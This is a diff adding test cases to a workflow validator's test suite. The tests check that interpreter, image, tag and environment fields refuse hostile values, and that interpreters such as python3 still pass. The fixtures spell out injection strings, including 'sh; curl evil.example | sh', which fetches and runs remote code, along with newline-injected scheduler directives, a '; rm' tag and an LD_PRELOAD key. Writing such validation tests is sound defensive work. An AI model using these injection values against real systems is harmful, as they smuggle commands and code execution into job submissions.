@@ -112,3 +112,30 @@ describe('POST /api/af/workflows/validate', () => {
     expect(unauthenticated.status).toBe(401);
   });
 });
+
+describe('step fields that reach a shell, a submit description or a pod spec', () => {
+  it('refuses what a hostile author would put there, naming the field in words', () => {
+    const files = example();
+    files['steps.yml'] = files['steps.yml']
+      .replace('    interpreter: sh\n', "    interpreter: 'sh; curl evil.example | sh'\n")
+      .replace("    image: busybox\n    imagetag: '1.36'\n", "    image: \"busybox\\n+Owner = root\"\n    imagetag: '1.36; rm'\n    env:\n      'LD_PRELOAD=/tmp/x.so': x\n      GREETING: \"hi\\nqueue 1000\"\n      FINE: \"a\\tb\"\n");
+    const r = loadWorkflow('workflow.yml', files);
+    expect(r.spec).toBeNull();
+    expect(messages(r)).toEqual(expect.arrayContaining([
+      'steps.yml $.stages[0].scheduler.step.process.interpreter: is not a program to run (letters, digits, _ . / + - and single spaces only)',
+      'steps.yml $.stages[1].scheduler.step.environment.image: is not an image name (no spaces or control characters)',
+      'steps.yml $.stages[1].scheduler.step.environment.imagetag: is not an image tag (letters, digits, _ . -)',
+      'steps.yml $.stages[1].scheduler.step.environment.env["LD_PRELOAD=/tmp/x.so"]: is not an environment variable name (letters, digits and _, not starting with a digit)',
+      'steps.yml $.stages[1].scheduler.step.environment.env.GREETING: contains a control character (newlines and the like are refused; tab is fine)',
+    ]));
+    expect(messages(r).some((m) => m.includes('FINE'))).toBe(false);
+  });
+
+  it('still takes interpreters such as "python3" and "/usr/bin/env python3"', () => {
+    for (const interpreter of ['python3', '/usr/bin/env python3', 'bash']) {
+      const files = example();
+      files['steps.yml'] = files['steps.yml'].replace('    interpreter: sh\n', `    interpreter: '${interpreter}'\n`);
+      expect(messages(loadWorkflow('workflow.yml', files))).toEqual([]);
+    }
+  });
+});
